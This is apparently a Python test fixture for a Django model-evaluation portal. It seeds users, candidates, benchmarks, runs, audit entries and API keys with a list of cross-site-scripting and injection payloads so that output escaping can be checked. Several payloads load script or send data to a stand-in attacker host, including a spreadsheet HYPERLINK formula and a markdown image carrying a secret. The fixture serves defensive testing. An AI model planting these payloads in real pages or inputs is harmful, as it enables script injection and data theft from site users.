"""What an attacker would write, and a project in which every foreign text is it."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal

from django.utils import timezone

from evals.models import (
    Benchmark,
    Candidate,
    Endpoint,
    KeptQuestion,
    Part,
    Price,
    Probe,
    QuestionSet,
    Run,
    Sample,
    Score,
    Suite,
)
from portal.accounts.models import ApiKey, AuditEntry, Invitation, Membership, Project, Role, User
from workers.models import JobState

AWAY = "https://evil.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt/x src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=https://evil.example/x.png onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)' x='",
    "` onclick=alert(1) `",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q><button>send</button></form>",
    "<details open ontoggle=alert(1)><video onerror=alert(1)><source></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>here</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "[here](javascript:alert(1)) ![x](https://evil.example/x.png?q=secret)",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
    r"$$\href{javascript:alert(1)}{x}$$ \htmlData{x=y}{<img src=x onerror=alert(1)>}",
    "{{7*7}} {% debug %} ${7*7} #{7*7} <%= 7*7 %> {{ request.user.password }}",
    "\u202egnp.exe\u202c \u200b\u200d\u2066<script>alert(1)</script>\u2069\ufeff",
    '50; background: url(https://evil.example/x); x: expression(alert(1)); "',
    '" hx-get="https://evil.example/" hx-trigger="load" hx-on:load="alert(1)" x="',
    "</title></textarea></style></template><script>alert(1)</script>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '{"__proto__": {"x": 1}}</script><script>alert(1)</script>',
]


def make_foreign(project: Project) -> Run:
    """Fill ``project`` so that all payloads stand in every field that others can write."""
    everything = "\n".join(PAYLOADS)
    turn = iter(range(10**6))

    def text(longest: int = 100_000) -> str:
        """Another payload each time, where there is no room for all of them."""
        return everything if longest > len(everything) else PAYLOADS[next(turn) % len(PAYLOADS)]

    people = [
        User.objects.create(username=f"{payload}"[:150], email=f"{number}@x.example",
                            first_name=payload[:150], last_name=payload[:150])
        for number, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    for person in people:
        Membership.objects.create(project=project, user=person, role=Role.RATER)
    candidates = [_candidate(project, payload, text, people[0]) for payload in PAYLOADS]
    suite, benchmarks = _suite(project, text)
    runs = [_run(candidate, suite, benchmarks, text, people[1]) for candidate in candidates[:4]]
    for number, payload in enumerate(PAYLOADS):
        AuditEntry.objects.create(
            project=project, actor=people[number], actor_name=payload, action="candidate.change",
            target_type=payload[:60], target_id=payload[:40], target_name=payload,
            details={payload: payload, "list": [payload]},
        )  # fmt: skip
        ApiKey.objects.create(
            project=project, name=payload[:120], prefix=payload[:16], scopes=["read", payload],
            key_hash=f"{number:064d}", created_by=people[number],
        )  # fmt: skip
        KeptQuestion.objects.create(
            project=project, messages=[{"role": payload, "content": payload}], answer=payload,
            candidate=candidates[0], served_model=payload, note=payload,
        )  # fmt: skip
        Invitation.objects.create(
            project=project, email=payload[:254], token_hash=f"{number:064d}",
            created_by=people[number], expires_at=timezone.now() + timedelta(days=1),
        )  # fmt: skip
    return runs[0]


def _candidate(project: Project, payload: str, text: Callable[..., str], person: User) -> Candidate:
    candidate = Candidate.objects.create(
        project=project, name=payload[:120], base_model=text(200)[:200],
        quantisation=text(60)[:60], licence=text(120)[:120], notes=text(),
        languages=[payload, "de"],
    )  # fmt: skip
    endpoint = Endpoint.objects.create(
        candidate=candidate, base_url="http://127.0.0.1:9/v1", served_model=text(300)[:300],
        key_last_four="<i>x", key_encrypted="not a token of ours",
    )  # fmt: skip
    verdicts = [
        {"name": p, "ok": False, "summary": p, "evidence": {"request": p, "response": p, p: p},
         "code": "", "values": {p: p}}
        for p in PAYLOADS
    ]  # fmt: skip
    Probe.objects.create(
        endpoint=endpoint, endpoint_revision=1, state=JobState.FAILED, server=text(200)[:200],
        verdicts=verdicts, capabilities={payload: True}, message=text(), created_by=person,
        finished_at=timezone.now(),
    )  # fmt: skip
    Price.objects.create(
        endpoint=endpoint, created_by=person, pricing="token", currency="<b>",
        per_million_prompt=Decimal(1), per_million_answer=Decimal(1),
    )  # fmt: skip
    return candidate


def _suite(project: Project, text: Callable[..., str]) -> tuple[Suite, list[Benchmark]]:
    questions = QuestionSet.objects.create(sha256="f" * 64, count=1, lines='{"question": "<b>"}')
    suite = Suite.objects.create(
        project=project, slug="foreign", name=text(120)[:120], description=text(),
        licence=text(120)[:120], tags=list(PAYLOADS), sha256="f" * 64,
    )  # fmt: skip
    benchmarks = [
        Benchmark.objects.create(
            suite=suite, position=number, name=payload[:120], title=payload[:160],
            family=payload[:80], language=["de", "<b>", '"x', "en"][number % 4],
            engine="lm_eval", scoring="options", metric=payload[:40], tags=[payload],
            questions=questions, task={"doc_to_text": payload}, options={payload: payload},
        )
        for number, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    Suite.objects.filter(pk=suite.pk).update(frozen_at=timezone.now())
    return suite, benchmarks


def _run(
    candidate: Candidate, suite: Suite, benchmarks: list[Benchmark], text: Callable[..., str],
    person: User,
) -> Run:  # fmt: skip
    run = Run.objects.create(
        candidate=candidate, suite=suite, endpoint_revision=1, options_hash=str(candidate.pk),
        total=len(benchmarks), created_by=person, state=JobState.DONE, message=text(),
        finished_at=timezone.now(), software={p: p for p in PAYLOADS},
    )  # fmt: skip
    for number, (benchmark, payload) in enumerate(zip(benchmarks, PAYLOADS, strict=True)):
        part = Part.objects.create(
            run=run, benchmark=benchmark, total=1, done=1, values=[number % 2], message=text(),
            state=JobState.DONE, finished_at=timezone.now(),
        )  # fmt: skip
        chat = f'[{{"role": "<b>", "content": {_json(payload)}}}]'
        Sample.objects.create(
            part=part, doc_id=0, prompt=chat if number % 2 else text(), target=payload,
            answer=payload, raw=payload, value=float(number % 2), correct=bool(number % 2),
            metrics={payload: 1.0}, choices=[payload, "other"], loglikelihoods=[-1.0, -2.0],
        )  # fmt: skip
        Sample.objects.create(
            part=part, doc_id=1, prompt=text(), target=payload, error=payload,
            error_kind=payload[:40],
        )  # fmt: skip
        Score.objects.create(
            part=part, metric=benchmark.metric, value=0.5, low=0.4, high=0.6, answered=1, asked=1,
            method=payload[:60], valid=True,
        )  # fmt: skip
    return run


def _json(value: str) -> str:
    return json.dumps(value)
